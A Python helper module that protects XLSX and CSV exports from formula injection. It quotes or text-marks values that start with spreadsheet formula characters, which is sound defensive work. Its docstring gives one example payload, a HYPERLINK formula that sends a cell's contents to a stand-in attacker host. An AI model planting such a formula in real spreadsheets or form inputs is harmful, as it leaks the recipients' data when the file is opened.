"""Writing spreadsheets that people open: a value is always a value, never a formula.

A name such as ``=HYPERLINK("http://evil.example/?"&A1,"Открыть")`` typed into a
form would otherwise run in the funder's Excel when the report is opened.
Every XLSX and CSV export writes its rows through these two helpers.
"""
from __future__ import annotations

import io

# what spreadsheet programs read as the start of a formula (or of a DDE call)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def append_row(sheet, values) -> None:
    """``sheet.append(values)``, with every string kept as text (openpyxl would store ``=…`` as a formula)."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            cell.data_type = "s"
            cell.quotePrefix = True  # shown as typed; Excel does not re-read it as a formula on edit


def csv_cell(value):
    """A CSV field that a spreadsheet opens as text: a leading quote mark before a formula start."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def workbook_bytes(parts: list[tuple[str, list[list]]]) -> bytes:
    """An XLSX workbook of named sheets (a title, then its rows), every row through ``append_row``."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for title, rows in parts:
        sheet = book.create_sheet(title[:31])
        for row in rows:
            append_row(sheet, row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
